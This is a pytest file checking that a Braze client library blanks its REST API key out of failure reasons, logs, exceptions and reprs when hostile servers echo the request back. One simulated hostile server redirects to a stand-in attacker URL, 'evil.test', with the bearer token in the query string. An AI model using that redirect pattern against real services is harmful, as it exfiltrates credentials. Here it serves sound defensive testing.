"""The REST API key never appears in a reason, a log record or an exception, whatever the server.

A hostile server may quote the request back, Authorization header included (a
debugging proxy's error page does): the key is blanked out of every answer.
"""

from __future__ import annotations

import json
import logging
import traceback
from typing import Any

import pytest

from segment_braze import BrazeClient, DeliveryReport, SenderError
from segment_braze._deliver import delivery as _delivery
from segment_braze.testing import BrazeStandIn

from . import test_transport as transport
from .hostile import Conn, head, serving
from .support import KEY, Outcomes, bounded, client_options, send, settings_for, tracks

pytestmark = pytest.mark.usefixtures("processes")


def echo(status: str, *, as_json: bool) -> Any:
    """Answer ``status`` with a body quoting the whole request back."""

    def behave(conn: Conn) -> None:
        request = conn.read_request().decode(errors="replace")
        if as_json:
            body = json.dumps({"message": request}).encode()
            kind = "application/json"
        else:
            # The quoted key first, where the reason's quote of a page begins.
            key_line = next(line for line in request.split("\r\n") if "Bearer" in line)
            body = f"<html><body><pre>{key_line}\n{request}</pre></body></html>".encode()
            kind = "text/html"
        conn.send(head(status, f"Content-Length: {len(body)}", f"Content-Type: {kind}") + body)

    return behave


def redirect_with_key(conn: Conn) -> None:
    """Redirect to a URL carrying the key."""
    request = conn.read_request().decode(errors="replace")
    token = request.split("Bearer ", 1)[1].split("\r\n", 1)[0]
    conn.send(
        head(
            "307 Temporary Redirect", f"Location: https://evil.test/?k={token}", "Content-Length: 0"
        )
    )


def rate_limited_with_key(conn: Conn) -> None:
    """Answer 429 with the key as the Retry-After value (unreadable, so quoted)."""
    request = conn.read_request().decode(errors="replace")
    token = request.split("Bearer ", 1)[1].split("\r\n", 1)[0]
    conn.send(head("429 Too Many Requests", f"Retry-After: {token}", "Content-Length: 0"))


def assert_clean(result: Any, outcomes: Outcomes, caplog: pytest.LogCaptureFixture) -> None:
    """Neither the report, the hooks' reasons, the logs nor an exception hold the key."""
    texts = [repr(result), str(result)]
    if isinstance(result, DeliveryReport):
        texts += [failure.reason for failure in result.failed]
    if isinstance(result, BaseException):
        texts += traceback.format_exception(result)
    texts += [reason or "" for _, _, reason in outcomes.outcomes]
    texts += [reason for _, reason in outcomes.dead]
    texts += [caplog.text, *(record.getMessage() for record in caplog.records)]
    assert all(KEY not in text for text in texts)


@pytest.fixture
def logs(caplog: pytest.LogCaptureFixture) -> pytest.LogCaptureFixture:
    """Every logger captured at DEBUG."""
    caplog.set_level(logging.DEBUG)
    return caplog


class TestQuotingServers:
    """A server quoting the request (and so the key) back never leaks it."""

    @pytest.mark.parametrize(
        "behaviour",
        [
            echo("500 Internal Server Error", as_json=False),
            echo("502 Bad Gateway", as_json=True),
            echo("400 Bad Request", as_json=True),
            echo("404 Not Found", as_json=False),
            redirect_with_key,
            rate_limited_with_key,
        ],
        ids=["500-html", "502-json", "400-json", "404-html", "redirect", "429-header"],
    )
    def test_key_blanked(self, behaviour, logs):
        """The quoted key is replaced by [REST API key] in every reason."""
        messages = tracks(4)
        outcomes = Outcomes()
        with serving(behaviour) as server:
            report = bounded(lambda: send(server.url, messages, **outcomes.hooks()))
        assert isinstance(report, DeliveryReport)
        assert report.delivered == 0
        assert_clean(report, outcomes, logs)
        assert any("[REST API key]" in failure.reason for failure in report.failed)


class TestEveryFault:
    """No transport fault's reason or log carries the key."""

    @pytest.mark.parametrize(
        "behaviour", [b for b, _ in transport.FAULTS], ids=[b.__name__ for b, _ in transport.FAULTS]
    )
    def test_clean(self, behaviour, logs):
        """The report, the hooks and the logs are free of the key."""
        messages = tracks(3)
        outcomes = Outcomes()
        with serving(behaviour) as server:
            report = bounded(lambda: send(server.url, messages, workers=1, **outcomes.hooks()))
        assert_clean(report, outcomes, logs)


class TestSenderError:
    """A sender bug's SenderError, its cause and traceback never show the key."""

    def test_clean(self, monkeypatch, logs):
        """SenderError and everything printed with it are free of the key."""

        def flush(self: Any) -> None:
            raise RuntimeError("bug")

        monkeypatch.setattr(_delivery._Worker, "flush", flush)
        messages = tracks(5)
        outcomes = Outcomes()
        with BrazeStandIn(api_key=KEY) as braze:
            result = bounded(lambda: send(braze.url, messages, **outcomes.hooks()))
        assert isinstance(result, SenderError)
        assert_clean(result, outcomes, logs)
        assert_clean(result.report, outcomes, logs)

    def test_client_repr(self):
        """The client's repr leaves the key out."""
        with BrazeClient(settings_for("http://127.0.0.1:9"), **client_options()) as client:
            assert KEY not in repr(client)
            assert KEY not in repr(client._poster)
